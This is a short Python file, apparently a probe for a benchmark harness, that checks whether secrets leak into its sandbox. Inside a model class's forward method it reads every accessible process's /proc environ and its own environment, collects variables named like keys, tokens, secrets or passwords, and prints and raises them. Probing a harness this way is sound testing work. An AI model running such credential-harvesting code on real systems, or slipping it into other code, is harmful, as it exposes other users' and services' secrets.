# Hunts for API keys: every process's environment it can see (kbrun's and its parents' via
# /proc/<pid>/environ, same user), its own environment. Prints and raises with whatever it
# finds, so a leak shows in the output tail and the error; correct when it finds nothing.
import os
import torch.nn as nn

NAMES = (b"KEY", b"TOKEN", b"SECRET", b"PASSWORD")


def hunt():
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open("/proc/%s/environ" % pid, "rb") as f:
                entries = f.read().split(b"\0")
        except OSError:
            continue
        for entry in entries:
            name = entry.split(b"=", 1)[0]
            if any(n in name.upper() for n in NAMES):
                found.append("pid %s: %s" % (pid, entry.decode(errors="replace")))
    found += ["own: %s=%s" % kv for kv in os.environ.items() if any(n.decode() in kv[0].upper() for n in NAMES)]
    return found


class ModelNew(nn.Module):
    def __init__(self, alpha):
        super().__init__()
        self.alpha = alpha

    def forward(self, x, y):
        found = hunt()
        if found:
            print("\n".join(found), flush=True)
            raise RuntimeError("found secrets: " + "; ".join(found))
        return x * self.alpha + y
